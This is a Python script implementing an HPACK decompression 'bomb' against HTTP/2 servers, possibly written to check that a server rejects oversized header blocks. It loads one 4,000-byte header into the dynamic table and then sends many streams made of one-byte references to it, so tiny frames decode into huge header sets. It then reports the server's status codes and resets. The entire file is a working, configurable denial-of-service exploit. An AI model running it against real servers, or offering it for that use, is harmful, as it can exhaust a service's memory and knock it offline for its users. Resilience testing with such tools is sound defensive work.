#!/usr/bin/env python3
"""HPACK bomb: request header blocks that decode to far more than their size on the wire.

    h2_hpack_bomb.py HOST PORT [--streams N] [--references R] [--rounds K]

Over one h2c connection (prior knowledge), each round opens N streams at once, every one a GET
whose header block names one 4,000-byte header R times: the first block of the connection puts it
into the HPACK dynamic table, every field after that is a one-byte reference to it (index 62) —
~N × R × 4 KB decoded from N × R bytes on the wire. The frames are written by hand (h2raw.py: an
HPACK encoder would spend seconds re-encoding what is one byte), the answers read with `hpack`.
Prints the response statuses (and resets) as JSON, e.g. {"431": 500}.
"""
import json
import struct
import sys
from collections import Counter

from hpack import Decoder

from h2raw import END_HEADERS, END_STREAM, GOAWAY, HEADERS, RST_STREAM, FrameReader, connect, frame, literal, request_block


def main() -> int:
    args = sys.argv[1:]
    host, port = args[0], int(args[1])
    options = dict(zip(args[2::2], args[3::2]))
    streams, references, rounds = int(options.get("--streams", 100)), int(options.get("--references", 250)), int(options.get("--rounds", 5))
    sock = connect(host, port, timeout=20)
    request = request_block([(b":method", b"GET"), (b":scheme", b"http"), (b":path", b"/healthz"), (b":authority", f"{host}:{port}".encode())])
    decoder = Decoder()
    decoder.max_allowed_table_size = 1 << 16
    reader = FrameReader(sock)
    results = Counter()
    next_id = 1
    for _ in range(rounds):
        pending = set()
        out = bytearray()
        for _ in range(streams):
            if next_id == 1:
                block = request + literal(b"x-bomb", b"b" * 4000, indexing=True) + b"\xbe" * (references - 1)
            else:
                block = request + b"\xbe" * references
            out += frame(HEADERS, END_HEADERS | END_STREAM, next_id, block)
            pending.add(next_id)
            next_id += 2
        sock.sendall(out)
        while pending:
            data = sock.recv(65536)
            if not data:
                results["connection closed"] += len(pending)
                print(json.dumps(results))
                return 1
            reader.feed(data)
            for kind, _, stream, payload in reader.frames():
                if kind == HEADERS:
                    status = dict(decoder.decode(payload)).get(":status")  # decoded either way: the table stays in step
                    if stream in pending:
                        results[status] += 1
                        pending.discard(stream)
                elif kind == RST_STREAM and stream in pending:
                    results[f"reset {int.from_bytes(payload, 'big')}"] += 1
                    pending.discard(stream)
                elif kind == GOAWAY:
                    results["goaway"] += 1
    print(json.dumps(results))
    sock.sendall(frame(GOAWAY, 0, 0, struct.pack("!II", 0, 0)))
    sock.close()
    return 0


if __name__ == "__main__":
    sys.exit(main())
